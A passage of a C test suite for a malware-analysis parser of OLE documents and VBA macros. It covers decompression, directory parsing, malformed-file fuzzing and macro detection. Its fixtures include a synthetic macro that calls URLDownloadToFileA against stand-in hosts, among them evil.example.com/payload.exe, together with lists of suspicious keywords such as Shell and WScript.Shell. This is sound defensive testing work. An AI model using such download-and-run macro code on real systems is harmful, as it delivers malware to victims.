	static const char *d2 = "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa";
	char d3[74];
	uint8_t *out, *c;
	size_t n, cn;
	int rc;

	memset(d3, 'a', 73);
	d3[73] = '\0';
	rc = pn_vba_decompress(v1, sizeof(v1), 1 << 20, &out, &n);
	ok(rc == PN_OK && n == strlen(d1) && memcmp(out, d1, n) == 0, "3.2.1 no compression");
	free(out);
	rc = pn_vba_decompress(v2, sizeof(v2), 1 << 20, &out, &n);
	ok(rc == PN_OK && n == strlen(d2) && memcmp(out, d2, n) == 0, "3.2.2 normal compression (copy tokens)");
	free(out);
	rc = pn_vba_decompress(v3, sizeof(v3), 1 << 20, &out, &n);
	ok(rc == PN_OK && n == 73 && memcmp(out, d3, n) == 0, "3.2.3 maximum compression (overlapping copy)");
	free(out);
	/* the test compressor reproduces the spec's bytes */
	c = ovba_compress((const uint8_t *)d1, strlen(d1), 1, &cn);
	ok(c && cn == sizeof(v1) && memcmp(c, v1, cn) == 0, "compressor: 3.2.1 bytes");
	free(c);
	/* 3.2.2's bytes pick farther matches than 2.4.1.3.19.4 describes (a
	 * known quirk of the example); the nearest-match encoding must decode
	 * to the same text. */
	c = ovba_compress((const uint8_t *)d2, strlen(d2), 1, &cn);
	ok(c && pn_vba_decompress(c, cn, 1 << 20, &out, &n) == PN_OK && n == strlen(d2) &&
	    memcmp(out, d2, n) == 0 && cn == sizeof(v2), "compressor: 3.2.2 text, same length as the example");
	free(out);
	free(c);
	c = ovba_compress((const uint8_t *)d3, 73, 1, &cn);
	ok(c && cn == sizeof(v3) && memcmp(c, v3, cn) == 0, "compressor: 3.2.3 bytes");
	free(c);
	/* caps */
	rc = pn_vba_decompress(v3, sizeof(v3), 10, &out, &n);
	ok(rc == PN_ELIMIT && n == 10 && memcmp(out, d3, 10) == 0, "cap inside a copy token: ELIMIT, 10 bytes");
	free(out);
	rc = pn_vba_decompress(v1, sizeof(v1), 23, &out, &n);
	ok(rc == PN_OK && n == 23, "output exactly at the cap is complete");
	free(out);
}

static void
test_decompress_roundtrip(void)
{
	static const size_t sizes[] = { 0, 1, 7, 8, 9, 100, 3640, 4095, 4096, 4097, 8192, 10000, 20000 };
	size_t i, j, n, cn, bad = 0, chunks_raw = 0;
	uint8_t *in = pn_xmalloc(20000), *c, *out;
	int lz;

	for (lz = 0; lz < 2; lz++)
		for (i = 0; i < PN_ARRAY_LEN(sizes); i++) {
			for (j = 0; j < sizes[i]; j++)   /* text-like with repeats */
				in[j] = (uint8_t)("Sub Foo()\r\n  Shell x\r\nEnd Sub\r\n"[(j * 7 + j / 13) % 31]);
			c = ovba_compress(in, sizes[i], lz, &cn);
			if (c == NULL) {
				if (lz == 0 && sizes[i] % 4096 > 3640)
					continue;       /* not encodable literally: expected */
				bad++;
				continue;
			}
			for (j = 1; j + 1 < cn; j++)
				chunks_raw += c[j] == 0xFF && c[j + 1] == 0x3F;
			if (pn_vba_decompress(c, cn, 1 << 20, &out, &n) != PN_OK || n != sizes[i] ||
			    (n && memcmp(out, in, n) != 0)) {
				diag("roundtrip lz=%d size=%zu failed (got %zu)", lz, sizes[i], n);
				bad++;
			}
			free(out);
			free(c);
		}
	ok(bad == 0, "literal and LZ compression round-trip at chunk boundaries");
	ok(chunks_raw > 0, "raw (uncompressed) chunks were exercised");
	/* incompressible bytes: LZ falls back to raw chunks for full chunks */
	for (j = 0; j < 8192; j++)
		in[j] = (uint8_t)rng();
	c = ovba_compress(in, 8192, 1, &cn);
	ok(c && pn_vba_decompress(c, cn, 1 << 20, &out, &n) == PN_OK && n == 8192 &&
	    memcmp(out, in, n) == 0, "random bytes round-trip through raw chunks");
	free(out);
	free(c);
	free(in);
}

static void
test_decompress_errors(void)
{
	uint8_t bad_sig[] = { 0x02, 0x19, 0xB0, 0x00, 0x61 };
	uint8_t bad_chunk[] = { 0x01, 0x19, 0xA0, 0x00, 0x61 };                /* signature bits 010 */
	uint8_t first_copy[] = { 0x01, 0x03, 0xB0, 0x01, 0x00, 0x00 };          /* copy token at chunk start */
	uint8_t far_copy[] = { 0x01, 0x04, 0xB0, 0x02, 0x61, 0x00, 0x10 };      /* offset 2 > 1 byte decoded */
	uint8_t trunc[] = { 0x01, 0x19, 0xB0, 0x00, 0x61, 0x62, 0x63 };         /* chunk says 26 bytes */
	uint8_t half_token[] = { 0x01, 0x03, 0xB0, 0x02, 0x61, 0x45 };          /* copy token cut */
	uint8_t short_raw[] = { 0x01, 0xFF, 0x3F, 'a', 'b', 'c' };              /* raw chunk of 3 bytes */
	uint8_t *out;
	size_t n;
	int rc;

	rc = pn_vba_decompress(bad_sig, sizeof(bad_sig), 100, &out, &n);
	ok(rc == PN_EFORMAT && n == 0 && out == NULL, "bad signature byte");
	rc = pn_vba_decompress(bad_chunk, sizeof(bad_chunk), 100, &out, &n);
	ok(rc == PN_EFORMAT && n == 0, "bad chunk signature");
	rc = pn_vba_decompress(first_copy, sizeof(first_copy), 100, &out, &n);
	ok(rc == PN_EFORMAT && n == 0, "copy token with nothing decoded");
	rc = pn_vba_decompress(far_copy, sizeof(far_copy), 100, &out, &n);
	ok(rc == PN_EFORMAT && n == 1 && out[0] == 'a', "copy token before the chunk: partial output kept");
	free(out);
	rc = pn_vba_decompress(trunc, sizeof(trunc), 100, &out, &n);
	ok(rc == PN_EFORMAT && n == 3 && memcmp(out, "abc", 3) == 0, "truncated chunk: partial output");
	free(out);
	rc = pn_vba_decompress(half_token, sizeof(half_token), 100, &out, &n);
	ok(rc == PN_EFORMAT && n == 1, "half a copy token");
	free(out);
	rc = pn_vba_decompress(short_raw, sizeof(short_raw), 100, &out, &n);
	ok(rc == PN_EFORMAT && n == 3, "short raw chunk");
	free(out);
	rc = pn_vba_decompress(NULL, 0, 100, &out, &n);
	ok(rc == PN_EFORMAT && n == 0, "empty input");
	rc = pn_vba_decompress((const uint8_t *)"\x01", 1, 100, &out, &n);
	ok(rc == PN_OK && n == 0, "signature only: empty output");
}

/* ------------------------------------------------------------------ */
/* tests: dir stream                                                   */

static void
test_dir(void)
{
	struct vmod m[2] = { { "ThisDocument", "", 2, 1, 0 }, { "Module1", "", 1, 0, 37 } };
	struct pn_buf b = PN_BUF_INIT;
	struct pn_vba_dir d;
	struct vmod *many;
	char names[300][16];
	int rc, i;

	vba_dir(&b, m, 2);
	rc = pn_vba_parse_dir((const uint8_t *)b.p, b.len, &d);
	ok(rc == PN_OK, "dir stream parses (PROJECTVERSION quirk, references)");
	is_int(d.codepage, 1252, "code page");
	is_str(d.name, "VBAProject", "project name");
	is_int(d.declared, 2, "PROJECTMODULES count");
	is_int(d.nmodules, 2, "two modules");
	is_str(d.modules[1].name, "Module1", "module name");
	is_str(d.modules[1].stream, "Module1", "stream name from MODULESTREAMNAME unicode");
	ok(d.modules[1].has_offset && d.modules[1].offset == 37, "MODULEOFFSET");
	ok(d.modules[0].kind == 2 && d.modules[1].kind == 1, "module types");
	pn_vba_dir_release(&d);
	/* truncated in the second module */
	rc = pn_vba_parse_dir((const uint8_t *)b.p, b.len - 40, &d);
	ok(rc == PN_EFORMAT && d.nmodules >= 1 && strcmp(d.modules[0].name, "ThisDocument") == 0,
	    "truncated dir: EFORMAT, first module kept");
	pn_vba_dir_release(&d);
	/* a huge record size */
	{
		uint8_t h[6] = { 0x04, 0x00, 0xFF, 0xFF, 0xFF, 0xFF };
		rc = pn_vba_parse_dir(h, sizeof(h), &d);
		ok(rc == PN_EFORMAT && d.nmodules == 0, "record larger than the stream");
		pn_vba_dir_release(&d);
	}
	pn_buf_release(&b);
	/* more modules than the limit */
	many = pn_xcalloc(300, sizeof(*many));
	for (i = 0; i < 300; i++) {
		snprintf(names[i], sizeof(names[i]), "M%d", i);
		many[i].name = names[i];
		many[i].src = "";
		many[i].kind = 1;
	}
	pn_buf_init(&b, 0);
	vba_dir(&b, many, 300);
	rc = pn_vba_parse_dir((const uint8_t *)b.p, b.len, &d);
	ok(rc == PN_ELIMIT && d.nmodules == PN_VBA_MAX_MODULES, "module limit: ELIMIT at %d", PN_VBA_MAX_MODULES);
	pn_vba_dir_release(&d);
	pn_buf_release(&b);
	free(many);
}

/* ------------------------------------------------------------------ */
/* tests: the reader                                                   */

static void
test_reader(unsigned sshift)
{
	struct ow w;
	struct pn_ole *ole;
	uint32_t id, i, bad = 0;
	uint8_t *d;
	size_t n;
	char path[256];
	int rc;

	sample_doc(&w, sshift);
	rc = pn_ole_open(w.buf, w.len, &ole);
	ok(rc == PN_OK, "v%u: opens", sshift == 12 ? 4 : 3);
	if (rc != PN_OK)
		return;
	is_int(pn_ole_notes(ole), 0, "v%u: no anomalies", sshift == 12 ? 4 : 3);
	is_int(pn_ole_version(ole), sshift == 12 ? 4 : 3, "version");
	is_int(pn_ole_reachable(ole), w.n, "every entry reachable");
	for (i = 1; i < (uint32_t)w.n; i++) {
		const struct ow_ent *e = &w.e[i];
		if (e->type != 2)
			continue;
		id = i;       /* the writer keeps ids */
		rc = pn_ole_read(ole, id, 1 << 20, &d, &n);
		if (rc != PN_OK || n != e->len || (n && memcmp(d, e->data, n) != 0)) {
			diag("stream %s: rc %d, %zu of %zu bytes", e->name, rc, n, e->len);
			bad++;
		}
		free(d);
	}
	ok(bad == 0, "v%u: every stream (mini and regular) reads back", sshift == 12 ? 4 : 3);
	id = pn_ole_child(ole, pn_ole_child(ole, pn_ole_child(ole, 0, "MACROS"), "vba"), "MODULE1");
	ok(id != PN_OLE_NOSTREAM, "child lookup ignores case");
	pn_ole_path(ole, id, path, sizeof(path));
	is_str(path, "Macros/VBA/Module1", "path");
	pn_ole_path(ole, id, path, 8);
	is_str(path, "Macros", "path truncated at a component");
	rc = pn_ole_read(ole, pn_ole_child(ole, 0, "WordDocument"), 1000, &d, &n);
	ok(rc == PN_ELIMIT && n == 1000, "read cap: ELIMIT with the first bytes");
	free(d);
	ok(pn_ole_read(ole, pn_ole_child(ole, 0, "Macros"), 1000, &d, &n) == PN_EINVAL, "storage read: EINVAL");
	pn_ole_free(ole);
	ow_free(&w);
}

/* Open a patched copy; returns the notes joined for matching. */
static int
open_patched(const uint8_t *buf, size_t len, const char *what, const char *needle, const char *stream)
{
	struct pn_ole *ole;
	char notes[4096] = "";
	uint8_t *copy = pn_xmalloc(len), *d;
	size_t n;
	unsigned i;
	int rc, found;

	memcpy(copy, buf, len);
	rc = pn_ole_open(copy, len, &ole);
	if (rc != PN_OK) {
		free(copy);
		return ok(needle == NULL, "%s: refused", what);
	}
	if (stream) {
		uint32_t id = 0;
		const char *s = stream, *slash;
		while (id != PN_OLE_NOSTREAM && (slash = strchr(s, '/')) != NULL) {
			char part[64];
			snprintf(part, sizeof(part), "%.*s", (int)(slash - s), s);
			id = pn_ole_child(ole, id, part);
			s = slash + 1;
		}
		if (id != PN_OLE_NOSTREAM)
			id = pn_ole_child(ole, id, s);
		rc = pn_ole_read(ole, id, 1 << 20, &d, &n);
		free(d);
	}
	for (i = 0; i < pn_ole_notes(ole); i++) {
		size_t l = strlen(notes);
		snprintf(notes + l, sizeof(notes) - l, "%s; ", pn_ole_note(ole, i));
	}
	found = needle == NULL ? pn_ole_notes(ole) == 0 : strstr(notes, needle) != NULL;
	ok(found, "%s: \"%s\" noted", what, needle ? needle : "(none)");
	if (!found)
		diag("notes: %s", notes);
	pn_ole_free(ole);
	free(copy);
	return found;
}

static void
test_malformed(void)
{
	struct ow w;
	uint32_t s, wd;
	uint8_t *save;
	struct res r;
	size_t cut, bad;

	sample_doc(&w, 9);
	save = pn_xmalloc(w.len);
	memcpy(save, w.buf, w.len);
	wd = 1;   /* WordDocument is entry 1 */
	s = w.e[wd].start;

	/* FAT loop inside a regular stream */
	ow_fat_set(&w, s + 3, s + 1);
	open_patched(w.buf, w.len, "FAT loop", "loops at sector", "WordDocument");
	memcpy(w.buf, save, w.len);
	/* chain into a sector outside the file */
	ow_fat_set(&w, s + 2, 0x00FFFFF0);
	open_patched(w.buf, w.len, "sector out of range", "bad sector", "WordDocument");
	memcpy(w.buf, save, w.len);
	/* stream start outside the file */
	put32(ow_dirent(&w, (int)wd) + 116, 0x7FFFFFF0);
	open_patched(w.buf, w.len, "start sector out of range", "bad sector", "WordDocument");
	memcpy(w.buf, save, w.len);
	/* directory chain loops on itself */
	ow_fat_set(&w, w.dir0 + w.ndir - 1, w.dir0);
	open_patched(w.buf, w.len, "directory chain loop", "directory chain loops", NULL);
	memcpy(w.buf, save, w.len);
	/* directory tree loop: a storage's child tree points back at its parent */
	{
		int vba = ow_storage(&w, "Macros/VBA");
		uint8_t *e = ow_dirent(&w, (int)w.e[vba].child);
		put32(e + 68, (uint32_t)ow_storage(&w, "Macros"));
		open_patched(w.buf, w.len, "directory tree loop", "reached twice", NULL);
		put32(e + 68, (uint32_t)w.e[vba].child);  /* points at itself */
		open_patched(w.buf, w.len, "self-referencing entry", "reached twice", NULL);
		put32(e + 72, 5000);
		open_patched(w.buf, w.len, "sibling id out of range", "points to entry 5000", NULL);
		memcpy(w.buf, save, w.len);
	}
	/* huge sizes: a 4 GB regular stream, a 2^40 one in a v3 file (high half ignored) */
	put32(ow_dirent(&w, (int)wd) + 120, 0xFFFFFFFF);
	open_patched(w.buf, w.len, "huge stream size", "WordDocument", "WordDocument");
	put32(ow_dirent(&w, (int)wd) + 120, 9000);
	put32(ow_dirent(&w, (int)wd) + 124, 0x100);
	open_patched(w.buf, w.len, "garbage in the high half of a v3 size", NULL, "WordDocument");
	memcpy(w.buf, save, w.len);
	/* root mini stream size larger than the file */
	put32(ow_dirent(&w, 0) + 120, 0x7FFFFFFF);
	open_patched(w.buf, w.len, "mini stream size beyond the file", "mini stream", NULL);
	memcpy(w.buf, save, w.len);
	/* mini FAT loop */
	{
		uint8_t *mf = w.buf + ow_off(&w, w.minifat0);
		uint32_t st = w.e[ow_child(&w, 0, "1Table", 6, 2)].start;
		put32(mf + (st + 2) * 4, st);
		open_patched(w.buf, w.len, "mini FAT loop", "mini chain loops", "1Table");
		memcpy(w.buf, save, w.len);
	}
	/* FAT sector list: a FAT sector outside the file, and a DIFAT chain loop */
	put32(w.buf + 76, 0x00FFFFFF);
	open_patched(w.buf, w.len, "FAT sector outside the file", "FAT sector 0", NULL);
	memcpy(w.buf, save, w.len);
	/* entry 0 typed as a stream: still walked as the root, with a note */
	ow_dirent(&w, 0)[66] = 2;
	open_patched(w.buf, w.len, "root entry typed as a stream", "entry 0 is not the root", "Macros/VBA/dir");
	memcpy(w.buf, save, w.len);
	{
		struct pn_ole *o = (struct pn_ole *)1;
		ok(pn_ole_open(NULL, 0, &o) == PN_EFORMAT && o == NULL, "no input: EFORMAT");
	}
	/* header problems */
	put16(w.buf + 30, 20);
	open_patched(w.buf, w.len, "sector shift 20", NULL, NULL);
	memcpy(w.buf, save, w.len);
	put16(w.buf + 30, 10);
	open_patched(w.buf, w.len, "sector shift 10", "sector shift", NULL);
	memcpy(w.buf, save, w.len);

	/* every truncation parses without crashing, and stays valid JSON */
	for (bad = 0, cut = 0; cut < w.len; cut += cut < 1200 ? 7 : 61) {
		run_parser(&pn_parser_ole, w.buf, cut, &r);
		if (r.rc != -100 && !res_valid(&r))
			bad++;
		res_free(&r);
	}
	ok(bad == 0, "every truncation of the sample gives a valid result");
	run_parser(&pn_parser_ole, w.buf, ow_off(&w, w.mini0 + 1), &r);
	ok(r.rc == PN_EFORMAT && jget(r.attrs, "office_info.entries.0") != NULL && notes_match(&r, "vba:"),
	    "cut in the mini stream: EFORMAT with entries and notes");
	res_free(&r);

	/* random mutations of headers, FAT and directory */
	for (bad = 0, cut = 0; cut < 3000; cut++) {
		size_t k, flips = 1 + rng() % 8;
		memcpy(w.buf, save, w.len);
		for (k = 0; k < flips; k++) {
			size_t region = rng() % 3, at;
			at = region == 0 ? rng() % 512 : region == 1 ? ow_off(&w, 0) + rng() % w.ssize :
			    ow_off(&w, w.dir0) + rng() % (w.ndir * w.ssize);
			if (at < w.len)
				w.buf[at] = (uint8_t)(rng() % 4 == 0 ? 0xFF : rng());
		}
		run_parser(&pn_parser_ole, w.buf, w.len, &r);
		if (r.rc != -100 && !res_valid(&r))
			bad++;
		res_free(&r);
	}
	ok(bad == 0, "3000 mutated files give valid results");
	free(save);
	ow_free(&w);
}

/* The DIFAT chain is only read past 109 FAT sectors: a file of 300 sectors. */
static void
test_difat(void)
{
	struct ow w;
	uint8_t *big = pn_xcalloc(150000, 1);
	uint32_t per;

	ow_init(&w, 9);
	ow_add(&w, "Big", big, 150000);
	ow_build(&w);
	per = (uint32_t)(w.ssize / 4);
	open_patched(w.buf, w.len, "a 300-sector file", NULL, "Big");
	put32(w.buf + 44, 400);           /* more FAT sectors than the header holds */
	put32(w.buf + 68, 0);             /* the DIFAT chain starts at sector 0 ... */
	put32(w.buf + 72, 3);
	put32(w.buf + ow_off(&w, 0) + (per - 1) * 4, 0);   /* ... and continues at sector 0 */
	open_patched(w.buf, w.len, "DIFAT chain loop", "DIFAT chain loops", NULL);
	put32(w.buf + ow_off(&w, 0) + (per - 1) * 4, 0x00FFFFFF);
	open_patched(w.buf, w.len, "DIFAT chain out of the file", "DIFAT chain reaches", NULL);
	put32(w.buf + 44, 0xFFFFFFFF);
	open_patched(w.buf, w.len, "4 billion FAT sectors declared", "FAT sectors declared", NULL);
	ow_free(&w);
	free(big);
}

/* ------------------------------------------------------------------ */
/* tests: the parser                                                   */

static void
test_parser_doc(void)
{
	struct ow w;
	struct res r;
	struct json_object *m0, *m1;
	struct pn_hashes h;
	const char *code;

	sample_doc(&w, 9);
	run_parser(&pn_parser_ole, w.buf, w.len, &r);
	ok(r.rc == PN_OK, "doc parses cleanly");
	if (json_object_array_length(r.notes))
		diag("notes: %s", json_object_to_json_string(r.notes));
	is_str(jstr(r.attrs, "office_info.entries.0.clsid_literal"), "MS Word", "root CLSID literal");
	is_str(jstr(r.attrs, "ole_info.clsid"), "00020906-0000-0000-c000-000000000046", "root CLSID");
	is_int(jint(r.attrs, "office_info.ole.num_macros"), 2, "two macros");
	m0 = jget(r.attrs, "office_info.ole.macros.0");
	m1 = jget(r.attrs, "office_info.ole.macros.1");
	is_str(jstr(m0, "vba_filename"), "ThisDocument.cls", "document module is .cls");
	is_str(jstr(m1, "vba_filename"), "Module1.bas", "procedural module is .bas");
	is_str(jstr(m1, "stream_path"), "Macros/VBA/Module1", "stream path");
	code = jstr(m0, "vba_code");
	ok(code && strncmp(code, "Attribute VB_Name = \"ThisDocument\"\nAttribute", 44) == 0 &&
	    strstr(code, "\r") == NULL, "source decompressed (LZ), CR LF -> LF");
	code = jstr(m1, "vba_code");
	ok(code && strstr(code, "URLDownloadToFileA 0, \"https://dl.example.org/a?b=1\"") != NULL,
	    "source decompressed (literal) after 37 bytes of p-code");
	is_int(jint(m1, "length"), (int64_t)strlen(src_mod) - 10, "length counts LF-normalized bytes");
	ok(jhas(jget(m0, "auto_exec"), "Document_Open"), "auto_exec: Document_Open");
	ok(jhas(jget(m0, "suspicious"), "Shell") && jhas(jget(m0, "suspicious"), "Environ") &&
	    jhas(jget(m0, "suspicious"), "vbHide"), "suspicious: Shell, Environ, vbHide");
	ok(jhas(jget(m0, "properties"), "auto-open") && jhas(jget(m0, "properties"), "run-file") &&
	    jhas(jget(m0, "properties"), "environ"), "properties of ThisDocument");
	ok(jhas(jget(m0, "patterns"), "url-pattern") && jhas(jget(m0, "patterns"), "exe-pattern"),
	    "patterns of ThisDocument");
	ok(jhas(jget(m1, "suspicious"), "CreateObject") && jhas(jget(m1, "suspicious"), "WScript.Shell") &&
	    jhas(jget(m1, "suspicious"), "StrReverse") && jhas(jget(m1, "suspicious"), "Chr(") &&
	    jhas(jget(m1, "suspicious"), "URLDownloadToFile"), "suspicious keywords of Module1");
	ok(jhas(jget(m1, "patterns"), "ip-pattern") && jhas(jget(m1, "properties"), "create-ole") &&
	    jhas(jget(m1, "properties"), "obfuscated") && jhas(jget(m1, "properties"), "network"),
	    "Module1 properties and ip-pattern");
	ok(json_object_array_length(jget(m1, "auto_exec")) == 0, "Module1 has no auto_exec");
	ok(jhas(r.tags, "macros") && jhas(r.tags, "auto-open") && jhas(r.tags, "run-file") &&
	    jhas(r.tags, "url-pattern"), "tags: macros, auto-open, run-file, url-pattern");
	ok(jhas(r.edges, "http://evil.example.com/payload.exe") && jhas(r.edges, "https://dl.example.org/a?b=1"),
	    "URLs in the source become embedded_urls edges");
	/* summary information */
	is_str(jstr(r.attrs, "office_info.summary_info.title"), "Caf\xc3\xa9 report", "title (cp1252 -> UTF-8)");
	is_str(jstr(r.attrs, "office_info.summary_info.author"), "mallory", "author");
	is_str(jstr(r.attrs, "office_info.summary_info.application_name"), "Word 2.0", "application (LPWSTR)");
	is_str(jstr(r.attrs, "office_info.summary_info.creation_datetime"), "2020-01-02 03:04:05", "created");
	is_int(jint(r.attrs, "office_info.summary_info.page_count"), 7, "page count");
	is_int(jint(r.attrs, "office_info.summary_info.edit_time"), 600, "edit time in seconds");
	ok(jget(r.attrs, "office_info.summary_info.last_saved") == NULL, "a zero FILETIME is left out");
	is_str(jstr(r.attrs, "office_info.summary_info.code_page"), "Latin I", "code page name");
	/* Ole10Native */
	is_str(jstr(r.attrs, "ole_info.ole10native.0.label"), "report.exe", "Ole10Native label");
	is_str(jstr(r.attrs, "ole_info.ole10native.0.stream_path"), "ObjectPool/_1234/\001Ole10Native", "Ole10Native path");
	pn_hash_buf("MZ\x90\x00rest of a program", 22, PN_HASH_SHA256, &h);
	is_str(jstr(r.attrs, "ole_info.ole10native.0.sha256"), h.sha256, "Ole10Native payload sha256");
	ok(json_object_get_boolean(jget(r.attrs, "ole_info.ole10native.0.executable")), "payload is an executable");
	is_int(jint(r.attrs, "ole_info.num_macros"), 2, "ole_info.num_macros");
	ok(jget(r.attrs, "ole_info.equation_editor") == NULL, "no Equation Editor");
	res_free(&r);
	ow_free(&w);
}

static void
test_parser_variants(void)
{
	struct ow w;
	struct res r;
	struct vmod m[1] = { { "Module1", NULL, 1, 1, 12 } };
	char *big;
	size_t i;

	/* Equation Editor object and an encrypted package */
	ow_init(&w, 9);
	ow_add(&w, "EncryptionInfo", "\x04\x00\x04\x00", 4);
	ow_add(&w, "EncryptedPackage", "12345678", 8);
	ow_add(&w, "ObjectPool/_1/Equation Native", "\x1c\x00", 2);
	clsid_parse("0002ce02-0000-0000-c000-000000000046", w.e[ow_storage(&w, "ObjectPool/_1")].clsid);
	ow_build(&w);
	run_parser(&pn_parser_ole, w.buf, w.len, &r);
	ok(r.rc == PN_OK && json_object_get_boolean(jget(r.attrs, "ole_info.equation_editor")),
	    "Equation Editor object found");
	ok(json_object_get_boolean(jget(r.attrs, "ole_info.encrypted")) && jhas(r.tags, "encrypted"),
	    "encrypted package: attribute and tag");
	is_str(jstr(r.attrs, "office_info.entries.4.clsid_literal"), "Microsoft Equation 3.0", "entry CLSID literal");
	ok(jget(r.attrs, "office_info.ole") == NULL && !jhas(r.tags, "macros"), "no VBA, no macros tag");
	res_free(&r);
	ow_free(&w);

	/* a module source over PN_VBA_MAX_SOURCE (vbaProject.bin layout: VBA at the root) */
	big = pn_xmalloc(100000);
	for (i = 0; i + 1 < 100000; i++)
		big[i] = "Sub A()\r\n  x = 1 + 2 ' padding text\r\nEnd Sub\r\n"[i % 44];
	big[99999] = '\0';
	m[0].src = big;
	ow_init(&w, 9);
	vba_project(&w, "VBA", m, 1);
	ow_build(&w);
	run_parser(&pn_parser_ole, w.buf, w.len, &r);
	ok(json_object_get_boolean(jget(r.attrs, "office_info.ole.macros.0.truncated")), "long source: truncated");
	ok(jint(r.attrs, "office_info.ole.macros.0.length") <= PN_VBA_MAX_SOURCE &&
	    jint(r.attrs, "office_info.ole.macros.0.length") > PN_VBA_MAX_SOURCE - 4000,
	    "kept up to the cap (less the CRs dropped)");
	is_str(jstr(r.attrs, "office_info.ole.macros.0.stream_path"), "VBA/Module1", "vbaProject.bin path");
	res_free(&r);
	ow_free(&w);
	free(big);

	/* a dir stream that does not decompress: sources found by search */
	{
		struct vmod m2[2] = { { "ThisDocument", NULL, 2, 1, 0 }, { "Module1", NULL, 1, 0, 37 } };
		uint8_t junk[40];
		m2[0].src = src_doc;
		m2[1].src = src_mod;
		ow_init(&w, 9);
		vba_project(&w, "Macros/VBA", m2, 2);
		memset(junk, 0x55, sizeof(junk));
		ow_add(&w, "Macros/VBA/dir", junk, sizeof(junk));
		ow_build(&w);
		run_parser(&pn_parser_ole, w.buf, w.len, &r);
		ok(jint(r.attrs, "office_info.ole.num_macros") == 2 && notes_match(&r, "vba: dir stream"),
		    "damaged dir: both modules found by search, with a note");
		ok(r.rc == PN_EFORMAT, "damaged dir: EFORMAT");
		res_free(&r);
		ow_free(&w);
	}
	/* a module whose MODULEOFFSET is wrong */
	{
		struct vmod m3[1] = { { "Module1", NULL, 1, 0, 37 } };
		struct pn_buf dir = PN_BUF_INIT;
		uint8_t *c;
		size_t cn;
		m3[0].src = src_mod;
		ow_init(&w, 9);
		vba_project(&w, "VBA", m3, 1);
		m3[0].pcode = 5;                /* dir says 5, the stream has 37 */
		vba_dir(&dir, m3, 1);
		c = ovba_compress((const uint8_t *)dir.p, dir.len, 0, &cn);
		ow_add(&w, "VBA/dir", c, cn);
		free(c);
		pn_buf_release(&dir);
		ow_build(&w);
		run_parser(&pn_parser_ole, w.buf, w.len, &r);
		ok(jint(r.attrs, "office_info.ole.num_macros") == 1 &&
		    strstr(jstr(r.attrs, "office_info.ole.macros.0.vba_code"), "Sub Helper()") != NULL,
		    "wrong MODULEOFFSET: source found by search");
		res_free(&r);
		ow_free(&w);
	}
	/* not an OLE file */
	run_parser(&pn_parser_ole, (const uint8_t *)"PK\003\004", 4, &r);
	ok(r.rc == -100, "bid: no for a zip");
	res_free(&r);
}

static void
test_analyze(void)
{
	struct json_object *m = json_object_new_object();
	const char *s = "Sub AutoOpenX(): Shellfish = 1: x = MyShell: Kill \"a\": y = \"a.b.c.d\" & \"999.1.1.1\" & "
	    "\"file.exes\" & \"run.ps1\" & \"ftp://h/x\" & ChrW(65)";
	int n = pn_vba_analyze(s, strlen(s), m, NULL);

	ok(n > 0, "analyze finds something");
	ok(!jhas(jget(m, "auto_exec"), "AutoOpen"), "AutoOpenX is not AutoOpen (word boundary)");
	ok(!jhas(jget(m, "suspicious"), "Shell"), "Shellfish and MyShell are not Shell");
	ok(jhas(jget(m, "suspicious"), "Kill") && jhas(jget(m, "properties"), "delete-file"), "Kill: delete-file");
	ok(jhas(jget(m, "suspicious"), "ChrW("), "ChrW(");
	ok(!jhas(jget(m, "patterns"), "ip-pattern"), "999.1.1.1 is not an address");
	ok(jhas(jget(m, "patterns"), "exe-pattern"), "run.ps1 is an executable name");
	ok(jhas(jget(m, "patterns"), "url-pattern"), "ftp URL");
	json_object_put(m);
}

/* ------------------------------------------------------------------ */
/* tests: clamav-testfiles                                             */

static void
test_clam(void)
{
	struct res r;
	struct pn_hashes h;
	uint8_t *d, *exe;
	size_t n, en;

	d = read_file(CLAM_DIR "/clam.ole.doc", &n);
	ok(d != NULL, "clam.ole.doc present (Debian clamav-testfiles)");
	if (d) {
		run_parser(&pn_parser_ole, d, n, &r);
		ok(r.rc == PN_OK && json_object_array_length(r.notes) == 0, "clam.ole.doc: no errors");
		is_str(jstr(r.attrs, "office_info.summary_info.author"), "acab", "clam.ole.doc: author (file(1): acab)");
		is_str(jstr(r.attrs, "office_info.summary_info.template"), "Normal.dot", "clam.ole.doc: template");
		is_str(jstr(r.attrs, "office_info.summary_info.creation_datetime"), "2008-08-03 22:09:00",
		    "clam.ole.doc: created (file(1): Sun Aug 3 22:09:00 2008)");
		is_int(jint(r.attrs, "office_info.summary_info.word_count"), 3, "clam.ole.doc: words");
		is_str(jstr(r.attrs, "ole_info.clsid_literal"), "MS Word", "clam.ole.doc: Word CLSID");
		is_str(jstr(r.attrs, "ole_info.ole10native.0.label"), "Clam.exe", "clam.ole.doc: embedded Clam.exe");
		exe = read_file(CLAM_DIR "/clam.exe", &en);
		if (exe && pn_hash_buf(exe, en, PN_HASH_SHA256, &h) == PN_OK)
			is_str(jstr(r.attrs, "ole_info.ole10native.0.sha256"), h.sha256,
			    "clam.ole.doc: embedded payload is clam.exe");
		else
			ok(0, "clam.exe readable");
		free(exe);
		res_free(&r);
		free(d);
	}
	d = read_file(CLAM_DIR "/clam.ppt", &n);
	ok(d != NULL, "clam.ppt present");
	if (d) {
		run_parser(&pn_parser_ole, d, n, &r);
		ok(r.rc == PN_OK && json_object_array_length(r.notes) == 0, "clam.ppt: no errors");
		is_str(jstr(r.attrs, "office_info.summary_info.title"), "This is a ClamAV test file with embedded clam.exe",
		    "clam.ppt: title");
		is_int(jint(r.attrs, "office_info.summary_info.edit_time"), 159, "clam.ppt: edit time 02:39");
		is_str(jstr(r.attrs, "office_info.entries.0.clsid_literal"), "MS PowerPoint", "clam.ppt: CLSID");
		is_str(jstr(r.attrs, "office_info.summary_info.code_page"), "Central European", "clam.ppt: code page 1250");
		res_free(&r);
		free(d);
	}
}

/* ------------------------------------------------------------------ */
/* fuzz seeds                                                          */

/* fuzz_vba input: byte 0 = mode (see fuzz_vba.c), byte 1 = parameter, then data. */
static int
seed_vba(const char *dir, const char *name, uint8_t mode, const void *d, size_t n)
{
	uint8_t *b = pn_xmalloc(n + 2);
	int rc;

	b[0] = mode;
	b[1] = 0x20;
	memcpy(b + 2, d, n);
	rc = seed(dir, "vba", name, b, n + 2);
	free(b);
	return rc;
}

static int
write_seeds(const char *dir)
{
	struct ow w;
	struct pn_buf b = PN_BUF_INIT;
	struct vmod m[2] = { { "ThisDocument", NULL, 2, 1, 0 }, { "Module1", NULL, 1, 0, 37 } };
	uint8_t *c;
	size_t cn;
	int rc = 0;

